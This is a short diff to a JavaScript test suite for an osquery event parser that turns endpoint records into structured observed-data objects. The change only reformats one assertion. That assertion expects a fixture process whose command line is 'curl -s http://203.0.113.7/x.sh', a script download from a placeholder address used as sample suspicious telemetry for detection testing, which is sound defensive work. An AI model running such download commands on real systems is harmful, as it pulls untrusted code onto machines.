@@ -149,7 +149,10 @@ describe('osquery', () => {
   it('takes the event time from calendarTime (C asctime text, UTC) when unixTime is not there', () => {
     const event = recognised(fixture('osquery', 'calendar-time-only.json'), 'osquery');
     expect(event.observedData).toMatchObject({ first_observed: '2024-06-04T07:05:09Z' });
-    expect(byId(event, anchorOf(event).process_ref)).toMatchObject({ pid: 5120, command_line: 'curl -s http://203.0.113.7/x.sh' });
+    expect(byId(event, anchorOf(event).process_ref)).toMatchObject({
+      pid: 5120,
+      command_line: 'curl -s http://203.0.113.7/x.sh',
+    });
   });
 
   it('maps snapshot rows one process per row', () => {
